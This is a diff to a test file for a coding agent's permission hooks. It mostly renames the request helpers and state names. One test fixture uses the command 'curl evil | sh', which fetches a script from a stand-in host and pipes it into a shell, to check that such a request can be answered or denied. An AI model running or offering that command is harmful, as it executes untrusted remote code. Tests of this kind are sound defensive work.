@@ -51,7 +51,7 @@ async function startScripted(
         return newest?.state === state ? newest : undefined;
       }),
     /** Waits for an open request that can be answered. */
-    asks: () =>
+    openRequest: () =>
       until(() =>
         states()
           .at(-1)
@@ -82,7 +82,7 @@ describe("Codex, whose owner has consented to the hooks", () => {
     [{ decision: "deny", message: "Use wget." }, '{"behavior":"deny","message":"Use wget."}'],
   ])("has its request answered through the hook: %j", async (answer, decision) => {
     const session = await startScripted([{ ask: "curl evil | sh" }, { stop: true }]);
-    const request = await session.asks();
+    const request = await session.openRequest();
     expect(request).toMatchObject({ tool: "Bash", input: "curl evil | sh", scopes: ["once"] });
     expect(session.output()).not.toContain("Would you like");
     await session.activity.answer(request.id, answer);
@@ -92,7 +92,7 @@ describe("Codex, whose owner has consented to the hooks", () => {
 
   it("takes no answer with another input", async () => {
     const session = await startScripted([{ ask: "ls" }]);
-    const { id } = await session.asks();
+    const { id } = await session.openRequest();
     const answer: AgentAnswer = { decision: "answer", answers: [["A"]] };
     await expect(session.activity.answer(id, answer)).rejects.toMatchObject({ reason: "request_gone" });
     await session.activity.answer(id, { decision: "deny" });
@@ -100,12 +100,12 @@ describe("Codex, whose owner has consented to the hooks", () => {
 
   it("shows its own prompt at a person's key, and the next key answers that", async () => {
     const session = await startScripted([{ ask: "ls" }]);
-    await session.asks();
+    await session.openRequest();
     await session.type("x");
     await session.said("Would you like");
     await session.released();
     await session.type("\u001b[B");
-    expect(session.newest()).toMatchObject({ state: "asks_permission" });
+    expect(session.newest()).toMatchObject({ state: "needs_permission" });
     await session.type("y");
     await session.said("decided by key");
     await session.reached("working");
@@ -113,7 +113,7 @@ describe("Codex, whose owner has consented to the hooks", () => {
 
   it("shows its own prompt when the request is released", async () => {
     const session = await startScripted([{ ask: "ls" }]);
-    const { id } = await session.asks();
+    const { id } = await session.openRequest();
     session.activity.release(id);
     await session.said("Would you like");
     await session.released();
@@ -129,7 +129,7 @@ describe("Codex, whose owner has consented to the hooks", () => {
 
   it("runs the helper as one process", async () => {
     const session = await startScripted([{ ask: "ls" }]);
-    await session.asks();
+    await session.openRequest();
     const processes = await session.processes();
     const commands = await Promise.all(
       processes.map(async (pid) => (await readFile(`/proc/${pid}/cmdline`, "utf8")).split("\0")),
@@ -139,7 +139,7 @@ describe("Codex, whose owner has consented to the hooks", () => {
 
   it("falls back to its own prompt when the device agent's socket is closed", async () => {
     const session = await startScripted([{ ask: "ls" }]);
-    await session.asks();
+    await session.openRequest();
     await session.device.hooks?.close();
     await session.said("Would you like");
   });
@@ -170,7 +170,7 @@ it.each<Consent>(["missing", "outdated"])("Codex gets no hooks while the consent
 describe("Codex without hooks", () => {
   it("is done according to its record, and its requests are a guess from its terminal", async () => {
     const session = await startScripted([{ ask: "ls" }, { stop: true }], { consent: "missing" });
-    await until(() => session.states().at(-1) === "asks_question (screen)");
+    await until(() => session.states().at(-1) === "needs_answer (screen)");
     await session.type("y");
     expect(await session.reached("done")).toMatchObject({ source: "record", requests: [] });
   });
